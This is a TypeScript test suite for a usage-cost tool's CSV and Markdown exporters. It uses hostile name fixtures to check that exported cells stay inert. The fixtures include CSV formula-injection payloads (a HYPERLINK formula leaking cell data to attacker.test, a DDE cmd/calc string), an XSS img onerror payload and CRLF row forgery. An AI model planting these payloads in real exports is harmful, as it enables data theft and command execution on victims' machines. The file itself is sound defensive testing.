import { spawnSync } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import express from 'express';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUsageApi } from '../src/api/usageApi.js';
import { openLedgerStore } from '../src/ledger/openStore.js';
import type { LedgerStore } from '../src/ledger/store.js';
import { csvField, toCsv } from '../src/report/csv.js';
import { mdText } from '../src/report/markdown.js';
import { freshDatabaseUrl, LEDGER_BACKENDS, testLedgers } from './support/ledgerBackends.js';
import { addKnownTraffic, type KnownCall, MILLI_USD } from './support/ledgerFixture.js';
import { type LoopbackServer, serveOnLoopback } from './support/loopbackServer.js';
import { tempDir } from './support/sidecarHarness.js';

const CLI = fileURLToPath(new URL('../dist/cli.js', import.meta.url));

/** Names a service controls (they arrive as OTLP attributes), each hostile in its own way. */
const FORGED_ROW = 'evil\r\n2026-09-01,forged-provider,999.000000000';
const HOSTILE = {
  formula: '=HYPERLINK("http://attacker.test/?"&A1,"click")',
  plus: "+cmd|' /C calc'!A0",
  minus: '-2+3+cmd',
  at: '@SUM(1+1)*cmd',
  tab: '\t=1+1',
  cr: '\r=1+1',
  html: '<img src=x onerror=alert(1)>|cell',
  heading: 'x\n# Forged heading\n| forged | row |',
};

/**
 * A strict RFC 4180 reader (quoted fields, doubled quotes, CRLF records): what a spreadsheet
 * import sees. Throws on anything malformed so a broken writer cannot pass.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quote');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
          } else {
            i++;
            break;
          }
        } else field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r') {
        if (text[i] === '"' || text[i] === '\n') throw new Error(`bare ${JSON.stringify(text[i])} at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`unexpected ${JSON.stringify(text[i])} at ${i}`);
  }
  if (row.length > 0) throw new Error('missing final CRLF');
  return rows;
}

/** True when a spreadsheet would evaluate the cell (OWASP: =, +, -, @, tab, CR first), numbers aside. */
const evaluates = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

function expectInert(rows: string[][]): void {
  for (const row of rows) for (const cell of row) expect(evaluates(cell), JSON.stringify(cell)).toBe(false);
}

describe('the CSV writer (RFC 4180 + OWASP CSV injection)', () => {
  it('neutralises formula starts with a leading quote, quotes separators, keeps numbers as numbers', () => {
    expect(csvField(HOSTILE.formula)).toBe(`"'=HYPERLINK(""http://attacker.test/?""&A1,""click"")"`);
    expect(csvField(HOSTILE.plus)).toBe(`"'+cmd|' /C calc'!A0"`);
    expect(csvField(HOSTILE.minus)).toBe(`"'-2+3+cmd"`);
    expect(csvField(HOSTILE.at)).toBe(`"'@SUM(1+1)*cmd"`);
    expect(csvField(HOSTILE.tab)).toBe(`"'\t=1+1"`);
    expect(csvField(HOSTILE.cr)).toBe(`"'\r=1+1"`);
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('-1.500000000')).toBe('-1.500000000'); // a negative amount stays a number
    expect(csvField(-0.25)).toBe('-0.25');
    expect(csvField(12n)).toBe('12');
    expect(csvField(null)).toBe('');
    const doc = toCsv(
      ['name', 'usd'],
      [
        [FORGED_ROW, '1.000000000'],
        ['plain', '-2'],
      ],
    );
    expect(parseCsv(doc)).toEqual([
      ['name', 'usd'],
      [FORGED_ROW, '1.000000000'],
      ['plain', '-2'],
    ]);
  });
});

describe('Markdown escaping', () => {
  it('escapes |, brackets, HTML and newlines so a name stays inside its cell', () => {
    expect(mdText(HOSTILE.html)).toBe('&lt;img src=x onerror=alert(1)&gt;\\|cell');
    expect(mdText(HOSTILE.heading)).toBe('x # Forged heading \\| forged \\| row \\|');
    expect(mdText('[click](http://attacker.test)')).toBe('\\[click\\](http://attacker.test)');
    expect(mdText('a\\|b')).toBe('a\\\\\\|b');
    expect(mdText('esc\x1b[31mred')).toBe('esc\ufffd\\[31mred');
  });
});

const NOW = Date.now();
const HOUR_AGO = new Date(Math.floor(NOW / 3_600_000) * 3_600_000 - 3_600_000).toISOString();
const calls: KnownCall[] = [
  {
    at: HOUR_AGO,
    provider: FORGED_ROW,
    model: HOSTILE.formula,
    feature: HOSTILE.plus,
    service: HOSTILE.html,
    costNano: 1000 * MILLI_USD,
  },
  {
    at: HOUR_AGO,
    provider: 'openai',
    model: HOSTILE.minus,
    feature: HOSTILE.at,
    service: HOSTILE.heading,
    costNano: 500 * MILLI_USD,
  },
  {
    at: HOUR_AGO,
    provider: HOSTILE.tab,
    model: HOSTILE.cr,
    feature: 'ok',
    service: 'svc',
    costNano: 250 * MILLI_USD,
  },
];

describe.each(LEDGER_BACKENDS)(
  'every CSV and Markdown export with hostile provider, model, feature and service names (%s)',
  (kind) => {
    testLedgers(kind);
    const t = tempDir('spendline-injection-');
    let db: LedgerStore;
    /** How the CLI finds the ledger: the state directory's SQLite file, or the PostgreSQL URL. */
    let ledgerArgs: string[] = [];
    let server: LoopbackServer;
    let base: string;
    beforeAll(async () => {
      const url = kind === 'postgres' ? await freshDatabaseUrl() : undefined;
      db = await openLedgerStore({ url, stateDir: t.dir });
      ledgerArgs = url === undefined ? ['--state-dir', t.dir] : ['--ledger', url];
      await addKnownTraffic(db, calls);
      const app = express();
      app.use(
        '/api',
        createUsageApi(db, () => NOW),
      );
      server = await serveOnLoopback(app);
      base = `${server.url}/api`;
    });
    afterAll(async () => {
      await server.close();
      await db.close();
      t.cleanup();
    });
    const csv = async (path: string) => {
      const res = await fetch(`${base}${path}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      return parseCsv(await res.text());
    };

    it('/api/usage?format=csv: one row per group, every name inert and intact after the quote', async () => {
      for (const [groupBy, names] of [
        ['provider', [FORGED_ROW, 'openai', HOSTILE.tab]],
        ['model', [HOSTILE.formula, HOSTILE.minus, HOSTILE.cr]],
        ['feature', [HOSTILE.plus, HOSTILE.at, 'ok']],
        ['service', [HOSTILE.html, HOSTILE.heading, 'svc']],
      ] as const) {
        const rows = await csv(`/usage?format=csv&group_by=${groupBy}`);
        expect(rows).toHaveLength(1 + names.length);
        expectInert(rows);
        const shown = rows.slice(1).map((r) => r[0]);
        expect(shown.map((c) => (c?.startsWith("'") ? c.slice(1) : c)).sort()).toEqual([...names].sort());
      }
    });

    it('/api/usage/overall?format=csv and /api/reconciliation?format=csv', async () => {
      const overall = await csv('/usage/overall?format=csv');
      expect(overall).toHaveLength(4);
      expectInert(overall);
      const rec = await csv('/reconciliation?format=csv&days=2');
      expectInert(rec);
      // One row per (day, provider); the CR/LF in the provider did not forge a row.
      expect(
        rec
          .slice(1)
          .map((r) => r[1])
          .sort(),
      ).toEqual([FORGED_ROW, 'openai', `'${HOSTILE.tab}`].sort());
      expect(rec.every((r) => r.length === rec[0]?.length)).toBe(true);
    });

    it('spendline report --format csv / markdown and spendline reconcile (Markdown)', () => {
      const cli = (...args: string[]) =>
        spawnSync(process.execPath, [CLI, ...args, ...ledgerArgs], {
          encoding: 'utf8',
          timeout: 30_000,
        });
      for (const by of ['provider', 'model', 'feature', 'service']) {
        const r = cli('report', '--format', 'csv', '--by', by, '--days-back', '2');
        expect(r.status, r.stderr).toBe(0);
        const rows = parseCsv(r.stdout);
        expect(rows).toHaveLength(4);
        expectInert(rows);
      }
      const md = cli('report', '--format', 'markdown', '--by', 'service', '--days-back', '2');
      expect(md.status).toBe(0);
      expect(md.stdout).not.toContain('<img');
      expect(md.stdout).not.toMatch(/^# Forged/m);
      expect(md.stdout).not.toMatch(/^\| forged/m);
      const table = md.stdout.split('\n').filter((l) => l.startsWith('|'));
      // header, rule, 3 groups, total: every line has the header's cell count
      expect(table).toHaveLength(6);
      const cellCount = (l: string) => l.split(/(?<!\\)\|/).length;
      for (const l of table) expect(cellCount(l)).toBe(cellCount(table[0] ?? ''));
      const rec = cli('reconcile', '--days-back', '2');
      expect(rec.status, rec.stderr).toBe(0);
      const recRows = rec.stdout.split('\n').filter((l) => /^\| \d{4}-/.test(l));
      expect(recRows).toHaveLength(3);
      expect(rec.stdout).not.toMatch(/^2026-09-01,forged-provider/m);
    });
  },
);
